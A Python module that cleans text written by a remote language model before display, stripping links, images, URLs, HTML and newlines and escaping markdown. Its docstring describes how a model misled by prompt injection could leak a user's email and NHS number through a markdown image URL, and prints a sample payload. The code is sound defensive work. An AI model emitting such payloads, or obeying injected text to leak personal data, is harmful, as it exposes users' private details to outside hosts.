"""What a remote model writes is data, never markup: one cleaner for every model-written string.

A model reply is untrusted twice over: the model may be misled by text in the draft (prompt injection), and
the server may not be the model it claims to be. Its words are shown to the user after the redaction's
placeholders are restored, so a reply such as ``![](https://host/p.png?e=EMAIL_1&n=NHS_NUMBER_2)`` would,
if it were rendered as markdown, become an image whose URL carries the real email address and NHS number,
and any viewer that loads it would send them to that host. A reply with newlines could also draw its own
``## Strengths`` section.

So every model-written string goes through `clean_model_text` *before* placeholders are restored (a URL is
removed while it still holds only placeholders) and again in each renderer (whatever built the result):

* links and images lose their target: ``[text](url)`` keeps only ``text``, ``![alt](url)`` and every URL,
  autolink, ``www.`` address and reference definition become ``[link removed]``;
* HTML tags are removed;
* control characters are dropped and all whitespace, newlines included, becomes one space, so the text is
  one line and can open no block (heading, list, quote, table, code fence) of its own;
* the length is capped.

`markdown_inline` then escapes what is left for a markdown renderer, so emphasis, code spans and brackets
show as typed. Only the tool's own templates create structure; model text sits inside it, on one line,
after a label that says a model wrote it.
"""

from __future__ import annotations

import re

LINK_REMOVED = "[link removed]"
DEFAULT_LIMIT = 2000

# Control characters (C0 other than whitespace, DEL, C1), and the Unicode line and paragraph separators,
# bidi overrides and zero-width characters that can hide or reorder text.
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]")
# ![alt](target) and [text](target), with an optional title. (A [text][label] reference needs a definition,
# and every definition is removed below, so it stays plain text.)
_IMAGE = re.compile(r"!\[[^\]\n]{0,500}\]\([^)\n]{0,2000}\)")
_LINK = re.compile(r"\[([^\]\n]{0,500})\]\([^)\n]{0,2000}\)")
# [label]: target   (a reference definition)
_REFERENCE = re.compile(r"\[[^\]\n]{1,200}\]:\s*\S+")
# <scheme:...> autolinks, then any HTML tag or comment.
_AUTOLINK = re.compile(r"<[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\s]{0,2000}>")
_TAG = re.compile(r"<!--.*?-->|<[A-Za-z/!?][^<>]{0,2000}>", re.DOTALL)
# URLs with a scheme (http://, ftp://, data:, javascript:, mailto:, file:...) and bare www. addresses.
_URL = re.compile(
    r"(?i)\b(?:[a-z][a-z0-9+.\-]{1,30}://|(?:data|javascript|vbscript|mailto|file|blob|tel|sms):)[^\s<>\"'`]*"
    r"|\bwww\.[^\s<>\"'`]+"
)
_SPACE = re.compile(r"\s+")
# Characters with a meaning in inline markdown (CommonMark and GFM): escaped with a backslash.
_MD_INLINE = re.compile(r"([\\`*_\[\]<>!~|#$])")
# At the start of the text: list items, quotes, setext underlines and thematic breaks; ordered list numbers.
_MD_LEADING = re.compile(r"^([-+=>])")
_MD_ORDERED = re.compile(r"^(\d{1,9})([.)])")


def clean_model_text(text: str | None, limit: int = DEFAULT_LIMIT) -> str:
    """Model-written text as plain, single-line words: no links, images, URLs, HTML or control characters.

    Idempotent, so cleaning again after the placeholders are restored (or in a renderer) is safe.
    """
    if not text:
        return ""
    cleaned = _CONTROL.sub("", text)
    cleaned = _IMAGE.sub(LINK_REMOVED, cleaned)
    cleaned = _LINK.sub(lambda m: m.group(1).strip() or LINK_REMOVED, cleaned)
    cleaned = _REFERENCE.sub(LINK_REMOVED, cleaned)
    cleaned = _AUTOLINK.sub(LINK_REMOVED, cleaned)
    cleaned = _TAG.sub(" ", cleaned)
    cleaned = _URL.sub(LINK_REMOVED, cleaned)
    cleaned = _SPACE.sub(" ", cleaned).strip()
    if len(cleaned) > limit:
        cleaned = cleaned[: limit - 1].rstrip() + "…"
    return cleaned


def markdown_inline(text: str | None, limit: int = DEFAULT_LIMIT) -> str:
    """Model-written text cleaned, then escaped so it renders as the same words in any markdown viewer."""
    escaped = _MD_INLINE.sub(r"\\\1", clean_model_text(text, limit))
    escaped = _MD_LEADING.sub(r"\\\1", escaped)
    return _MD_ORDERED.sub(r"\1\\\2", escaped)
